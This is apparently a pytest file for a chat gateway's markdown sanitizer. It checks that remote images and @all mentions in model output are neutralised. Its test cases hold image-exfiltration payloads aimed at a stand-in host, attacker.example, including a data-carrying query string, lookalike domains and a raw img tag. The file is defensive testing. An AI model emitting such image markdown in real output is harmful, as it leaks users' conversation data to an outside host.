"""`gateway.sanitize.safe_markdown`: what of model output may reach a chat (no remote images, no @all)."""

from __future__ import annotations

import pytest

from gateway.sanitize import safe_markdown

ALLOWED = ["corp.example"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![s](http://attacker.example/c?d=x)", "[s](http://attacker.example/c?d=x)"),
        ('![s](<https://attacker.example/a b> "title")', '[s](<https://attacker.example/a b> "title")'),
        ("!![s](http://attacker.example/)", "[s](http://attacker.example/)"),  # dropping one "!" is not enough
        ("![s][ref]\n\n[ref]: http://attacker.example/", "[s][ref]\n\n[ref]: http://attacker.example/"),
        ("![a ![b](http://x.example/)](http://y.example/)", "[a [b](http://x.example/)](http://y.example/)"),
        ("![s](//attacker.example/x)", "[s](//attacker.example/x)"),  # scheme-relative
        ("![s](https://corp.example.attacker.example/)", "[s](https://corp.example.attacker.example/)"),
        ("![s](https://evilcorp.example/)", "[s](https://evilcorp.example/)"),
        ("![s](data:image/png;base64,AAAA)", "[s](data:image/png;base64,AAAA)"),
        ('<img src="http://attacker.example/">', '&lt;img src="http://attacker.example/">'),
        ("<at id=all></at> <AT user_id='ou_1'>x</at>", "&lt;at id=all>&lt;/at> &lt;AT user_id='ou_1'>x&lt;/at>"),
        # Allowed hosts, their subdomains, and text that only looks similar stay as they are.
        ("![logo](https://corp.example/l.png)", "![logo](https://corp.example/l.png)"),
        ("![logo](https://img.CORP.example./l.png)", "![logo](https://img.CORP.example./l.png)"),
        ("[link](http://attacker.example/) wow! [x] <atom>", "[link](http://attacker.example/) wow! [x] <atom>"),
    ],
)
def test_images_become_links_unless_allowed(text: str, shown: str) -> None:
    assert safe_markdown(text, ALLOWED) == shown
    assert safe_markdown(shown, ALLOWED) == shown  # idempotent: cached answers pass it again


def test_without_allowed_hosts_no_image_stays() -> None:
    assert safe_markdown("![logo](https://corp.example/l.png)") == "[logo](https://corp.example/l.png)"
